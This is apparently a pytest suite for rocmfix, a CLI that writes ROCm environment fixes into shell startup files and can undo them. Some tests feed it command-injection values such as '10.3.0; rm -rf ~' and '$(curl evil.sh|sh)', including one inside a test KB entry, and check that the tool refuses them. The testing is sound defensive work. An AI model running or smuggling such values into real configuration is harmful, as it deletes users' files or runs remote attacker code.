"""`rocmfix fix`, `rocmfix undo` and `rocmfix history` as a user runs them.

Runs the CLI in-process (``main(argv)``) against a temporary HOME, with the
fake system tools of tests/fakebin first on PATH.
"""

from __future__ import annotations

import io
import json
import os
import sys
from pathlib import Path
from types import SimpleNamespace

import pytest

from rocmfix.cli import main

FAKEBIN = Path(__file__).parent / "fakebin"

KB = """\
schema: rocmfix.kb/1
entries:
  - id: test-needs-override
    severity: error
    priority: 50
    title: {en: "Test entry"}
    summary: {en: "A test entry."}
    explanation: {en: "Used by the fix CLI tests."}
    signatures:
      - literal: 'ZZTEST no kernel image for'
        weight: 1.0
    extract:
      - name: gfx
        regex: '\\b(gfx[0-9]{3,4}[0-9a-f]?)\\b'
    fixes:
      - action: set-env
        params: {HSA_OVERRIDE_GFX_VERSION: "{hsa_override}"}
        when: [hsa_override]
        risk: medium
        root: false
        text: {en: "Treat {gfx} as {hsa_override}."}
      - action: set-env
        params: {HSA_OVERRIDE_GFX_VERSION: "10.3.0; rm -rf ~"}
        risk: high
        root: false
        text: {en: "A hostile fix from a kb.d file."}
    references:
      - https://rocm.docs.amd.com/
"""


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    home = tmp_path / "home"
    home.mkdir()
    (tmp_path / "fake").mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setenv("FAKEBIN_STATE", str(tmp_path / "fake"))
    monkeypatch.setenv("FAKEBIN_PYTHON", sys.executable)
    monkeypatch.setenv("PATH", f"{FAKEBIN}{os.pathsep}{os.environ['PATH']}")
    monkeypatch.setenv("SHELL", "/bin/bash")
    monkeypatch.setattr(sys, "stdin", io.StringIO(""))
    return home


def answer(monkeypatch: pytest.MonkeyPatch, text: str) -> None:
    monkeypatch.setattr(sys, "stdin", io.StringIO(text))


def journal(home: Path) -> Path:
    return home.parent / "state" / "rocmfix" / "journal.jsonl"


def test_fix_without_apply_shows_the_diff_and_changes_nothing(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["fix", "set-env", "HSA_OVERRIDE_GFX_VERSION=10.3.0"]) == 0
    out, err = capsys.readouterr()
    assert "+export HSA_OVERRIDE_GFX_VERSION='10.3.0'" in out
    assert "dry run" in err
    assert not (home / ".bashrc").exists() and not journal(home).exists()


def test_the_preview_says_why_an_unchanged_last_line_is_in_the_diff(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # The old last line had no newline; the new file gives it one. Without the marker
    # the preview shows the user's own line removed and added again, identical.
    (home / ".bashrc").write_bytes(b"alias ll='ls -l'\nexport KEEP=1")
    assert main(["fix", "set-env", "HSA_OVERRIDE_GFX_VERSION=10.3.0"]) == 0
    lines = capsys.readouterr().out.splitlines()
    old = lines.index("  -export KEEP=1")
    assert lines[old + 1] == "  \\ No newline at end of file"
    assert lines[old + 2] == "  +export KEEP=1"
    assert sum("No newline" in line for line in lines) == 1  # the new file ends with one


def test_apply_asks_first_and_a_no_changes_nothing(
    home: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    answer(monkeypatch, "n\n")
    assert main(["fix", "set-env", "HSA_OVERRIDE_GFX_VERSION=10.3.0", "--apply"]) == 1
    assert "[y/N]" in capsys.readouterr().err
    assert not (home / ".bashrc").exists() and not journal(home).exists()


def test_apply_without_a_terminal_answer_changes_nothing(home: Path) -> None:
    assert main(["fix", "set-env", "HSA_OVERRIDE_GFX_VERSION=10.3.0", "--apply"]) == 1
    assert not (home / ".bashrc").exists()


def test_apply_with_a_yes_answer_writes_the_planned_change(
    home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    answer(monkeypatch, "y\n")
    assert main(["fix", "set-env", "HSA_OVERRIDE_GFX_VERSION=10.3.0", "--apply"]) == 0
    assert "export HSA_OVERRIDE_GFX_VERSION='10.3.0'" in (home / ".bashrc").read_text()


def test_apply_history_and_undo_round_trip_restores_the_file(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rc = home / ".bashrc"
    rc.write_bytes(b"# mine\nexport A=1")
    assert main(["fix", "set-env", "MIOPEN_FIND_MODE=FAST", "--apply", "--yes"]) == 0
    assert main(["history"]) == 0
    out = capsys.readouterr().out
    assert "applied     set-env MIOPEN_FIND_MODE=FAST" in out
    assert main(["undo", "--last", "--yes"]) == 0
    assert rc.read_bytes() == b"# mine\nexport A=1"
    capsys.readouterr()
    main(["history", "--json"])
    rows = json.loads(capsys.readouterr().out)["records"]
    assert [r["status"] for r in rows] == ["undone"]


def test_undo_asks_first_and_a_no_keeps_the_fix(
    home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert main(["fix", "set-env", "MIOPEN_FIND_MODE=FAST", "--apply", "--yes"]) == 0
    answer(monkeypatch, "no\n")
    assert main(["undo"]) == 1
    assert "MIOPEN_FIND_MODE" in (home / ".bashrc").read_text()


def test_undo_of_a_file_edited_since_refuses_and_shows_the_difference(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["fix", "set-env", "MIOPEN_FIND_MODE=FAST", "--apply", "--yes"]) == 0
    with (home / ".bashrc").open("a") as handle:
        handle.write("alias k=kubectl\n")
    capsys.readouterr()
    assert main(["undo", "--yes"]) == 2
    err = capsys.readouterr().err
    assert "+alias k=kubectl" in err and "--force" in err
    assert main(["undo", "--yes", "--force"]) == 0
    assert not (home / ".bashrc").exists()


@pytest.mark.parametrize("value", ["10.3.0; rm -rf ~", "$(curl evil.sh|sh)", "10.3.0`id`"])
def test_a_hostile_value_is_one_clear_line_and_never_a_traceback(
    home: Path, capsys: pytest.CaptureFixture[str], value: str
) -> None:
    assert main(["fix", "set-env", f"HSA_OVERRIDE_GFX_VERSION={value}", "--apply", "--yes"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("rocmfix: refusing HSA_OVERRIDE_GFX_VERSION=")
    assert "Traceback" not in err
    assert not (home / ".bashrc").exists()


def test_session_mode_prints_exports_and_writes_nothing(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert (
        main(["fix", "set-env", "HSA_OVERRIDE_GFX_VERSION=10.3.0", "--session", "--apply", "--yes"])
        == 0
    )
    assert "export HSA_OVERRIDE_GFX_VERSION='10.3.0'" in capsys.readouterr().out
    assert not (home / ".bashrc").exists() and not journal(home).exists()


def test_a_session_preview_does_not_claim_the_fix_is_in_place(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # the lines shown are what the user runs: nothing is set yet, so "already in place" and
    # "nothing to change" would say the opposite of what the user must do
    assert main(["fix", "set-env", "HSA_OVERRIDE_GFX_VERSION=10.3.0", "--session"]) == 0
    out, err = capsys.readouterr()
    assert "export HSA_OVERRIDE_GFX_VERSION='10.3.0'" in out
    assert "already in place" not in out + err and "nothing to change" not in out + err
    assert "nothing was changed." in err


def test_unset_removes_a_variable_set_in_the_startup_file(home: Path) -> None:
    (home / ".bashrc").write_text("export LD_LIBRARY_PATH=/opt/rocm-6.0/lib\n")
    assert main(["fix", "set-env", "--unset", "LD_LIBRARY_PATH", "--apply", "--yes"]) == 0
    text = (home / ".bashrc").read_text()
    assert text.startswith("# disabled by rocmfix: export LD_LIBRARY_PATH")
    assert "unset LD_LIBRARY_PATH" in text


def test_group_fix_inside_docker_prints_run_flags_and_runs_nothing(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["fix", "add-user-to-groups", "--where", "docker", "--apply", "--yes"]) == 0
    out = capsys.readouterr().out
    assert (
        "docker run --device=/dev/kfd --device=/dev/dri --group-add video --group-add render" in out
    )
    assert not (home.parent / "fake" / "calls.jsonl").exists()


def test_gpu_manager_fix_on_a_host_runs_the_commands_it_showed(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    fake = home.parent / "fake"
    (fake / "units.json").write_text(
        json.dumps({"gpu-manager.service": {"enabled": True, "masked": False}})
    )
    assert main(["fix", "disable-gpu-manager", "--where", "host", "--apply", "--yes"]) == 0
    out = capsys.readouterr().out
    calls = [json.loads(line) for line in (fake / "calls.jsonl").read_text().splitlines()]
    run = [c["argv"] for c in calls if c["argv"][0] in ("disable", "mask")]
    for argv in run:
        assert " ".join(argv) in out
    assert len(run) == 2


def kb_file(tmp_path: Path) -> str:
    path = tmp_path / "test-kb.yaml"
    path.write_text(KB)
    return str(path)


def test_kb_fix_takes_the_override_from_the_log_and_applies_it(home: Path, tmp_path: Path) -> None:
    log = tmp_path / "train.log"
    log.write_text("step 1\nZZTEST no kernel image for gfx1031 found\n")
    argv = ["fix", "test-needs-override", "--kb", kb_file(tmp_path), "--from-log", str(log)]
    assert main([*argv, "--apply", "--yes"]) == 0
    assert "export HSA_OVERRIDE_GFX_VERSION='10.3.0'" in (home / ".bashrc").read_text()


def test_kb_fix_with_a_hostile_value_is_shown_as_refused_and_cannot_be_applied(
    home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    argv = ["fix", "test-needs-override", "--kb", kb_file(tmp_path)]
    assert main(argv) == 0
    out = capsys.readouterr().out
    assert "needs hsa_override" in out and "not offered: refusing" in out
    assert main([*argv, "--apply", "--yes"]) == 2
    assert main([*argv, "--apply", "--yes", "--pick", "2"]) == 2
    assert not (home / ".bashrc").exists()


def test_an_unknown_target_names_the_valid_actions(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["fix", "no-such-thing"]) == 2
    err = capsys.readouterr().err
    assert "neither a fix action nor a KB entry" in err and "set-env" in err


@pytest.mark.parametrize(
    ("ok", "code", "word"), [(True, 0, "recovered"), (False, 1, "not recovered")]
)
def test_verify_after_apply_reports_recovery(
    home: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    ok: bool,
    code: int,
    word: str,
) -> None:
    import rocmfix.verify

    failure = None if ok else SimpleNamespace(stage="matmul", message="hipErrorNoBinaryForGpu")
    seen: dict[str, object] = {}

    def fake_verify(**kw: object) -> SimpleNamespace:
        seen.update(kw)
        return SimpleNamespace(ok=ok, failure=failure)

    monkeypatch.setattr(rocmfix.verify, "run_verify", fake_verify)
    argv = ["fix", "set-env", "HSA_OVERRIDE_GFX_VERSION=10.3.0", "--apply", "--yes", "--verify"]
    assert main(argv) == code
    assert f"verify: {word}" in capsys.readouterr().out
    assert seen["python"] == sys.executable


def test_json_dry_run_prints_exactly_one_object(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["fix", "set-env", "MIOPEN_FIND_MODE=FAST", "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert data["schema"] == "rocmfix.fix/1"
    assert data["offers"][0]["steps"][0]["kind"] == "fileedit"
    assert not (home / ".bashrc").exists()


def test_undo_with_nothing_applied_says_so(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["undo", "--yes"]) == 2
    assert "no applied fix to undo" in capsys.readouterr().err


def test_json_apply_prints_one_object_and_nothing_else(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["fix", "set-env", "MIOPEN_LOG_LEVEL=1", "--json", "--apply", "-y"]) == 0
    out = capsys.readouterr().out
    doc = json.loads(out)  # the whole of stdout is one JSON object
    assert doc["schema"] == "rocmfix.fix/1" and doc["applied"]
    assert main(["fix", "set-env", "MIOPEN_LOG_LEVEL=1", "--json", "--apply", "-y"]) == 0
    captured = capsys.readouterr()
    assert json.loads(captured.out)["applied"] is None  # already in place: still one object
    assert "nothing to change" in captured.err
    assert main(["fix", "set-env", "MIOPEN_LOG_LEVEL=1"]) == 0
    err = capsys.readouterr().err
    assert "nothing to change" in err and "Add --apply" not in err


def test_kb_show_json_names_its_schema(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["kb", "show", "gpu-out-of-memory", "--json"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["schema"] == "rocmfix.kb-entry/1" and doc["id"] == "gpu-out-of-memory"


def test_forced_undo_says_where_the_later_edit_is_kept(capsys: pytest.CaptureFixture[str]) -> None:
    home = Path(os.environ["HOME"])
    assert main(["fix", "set-env", "MIOPEN_DEBUG_CONV_GEMM=1", "--apply", "-y"]) == 0
    (rc,) = [
        p for p in home.glob(".*") if p.is_file() and b"MIOPEN_DEBUG_CONV_GEMM" in p.read_bytes()
    ]
    rc.write_text(rc.read_text() + "alias mine='echo kept'\n")
    capsys.readouterr()
    assert main(["undo", "--last", "--force", "-y"]) == 0
    out = capsys.readouterr().out
    kept = [ln.split(" kept at ", 1)[1] for ln in out.splitlines() if " kept at " in ln]
    assert kept, out
    assert "alias mine='echo kept'" in Path(kept[0]).read_text()


def test_an_unknown_check_id_lists_the_known_ones(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["doctor", "--check", "bogus"]) == 2
    err = capsys.readouterr().err
    assert "bogus" in err and "gpu-arch-vs-torch" in err and "docs/checks.md" not in err


NUMBERED_KB = """\
schema: rocmfix.kb/1
entries:
  - id: test-numbered
    severity: error
    priority: 50
    title: {en: "Numbered fixes"}
    summary: {en: "An entry whose first fix needs a value no log gives."}
    explanation: {en: "Used by the numbering test."}
    signatures:
      - literal: 'ZZNUMBERED failure'
        weight: 1.0
    fixes:
      - text: {en: "Only with a value: {never_found}."}
        when: [never_found]
        risk: low
        root: false
      - text: {en: "Check the cable by hand."}
        risk: low
        root: false
      - action: set-env
        params: {HSA_OVERRIDE_GFX_VERSION: "10.3.0"}
        risk: medium
        root: false
        text: {en: "Set the override."}
    references:
      - https://rocm.docs.amd.com/
"""


def test_a_fix_has_the_same_number_in_kb_show_explain_and_fix_pick(
    home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    kb = tmp_path / "numbered.yaml"
    kb.write_text(NUMBERED_KB)
    assert main(["kb", "--kb", str(kb), "show", "test-numbered", "--json"]) == 0
    shown = json.loads(capsys.readouterr().out)["fixes"]
    assert [f.get("action") for f in shown] == [None, None, "set-env"]  # fix 3 is the action
    assert main(["fix", "test-numbered", "--kb", str(kb), "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert [o["number"] for o in data["offers"]] == [3] and data["manual_numbers"] == [2]
    assert main(["fix", "test-numbered", "--kb", str(kb)]) == 0
    out = capsys.readouterr().out
    assert "fix 2, to do by hand:" in out and "fix 3: set-env" in out and "fix 1" not in out
    assert main(["explain", "--kb", str(kb), "ZZNUMBERED failure"]) in (0, 1)
    out = capsys.readouterr().out
    assert "3. Set the override." in out and "2. Check the cable" in out, out
    assert "1. Set the override" not in out and "1. Check the cable" not in out
    assert main(["fix", "test-numbered", "--kb", str(kb), "--apply", "-y", "--pick", "2"]) == 2
    assert "done by hand" in capsys.readouterr().err
    assert main(["fix", "test-numbered", "--kb", str(kb), "--apply", "-y", "--pick", "3"]) == 0
    assert "HSA_OVERRIDE_GFX_VERSION='10.3.0'" in (home / ".bashrc").read_text()


def test_an_applied_fix_the_journal_could_not_close_says_so_and_undo_still_works(
    home: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from rocmfix.actions import transaction

    real = transaction.write_event

    def full_disk_at_the_last_line(state, rid, event, **kw):  # noqa: ANN001, ANN003
        if event == "applied":
            raise OSError(28, "No space left on device")
        return real(state, rid, event, **kw)

    (home / ".bashrc").write_text("alias ll='ls -l'\n")
    monkeypatch.setattr(transaction, "write_event", full_disk_at_the_last_line)
    answer(monkeypatch, "y\n")
    assert main(["fix", "set-env", "HSA_OVERRIDE_GFX_VERSION=10.3.0", "--apply"]) == 0
    err = capsys.readouterr().err
    assert "could not record" in err and "rocmfix undo" in err, err
    monkeypatch.setattr(transaction, "write_event", real)
    assert main(["undo", "--yes"]) == 0
    assert (home / ".bashrc").read_text() == "alias ll='ls -l'\n"
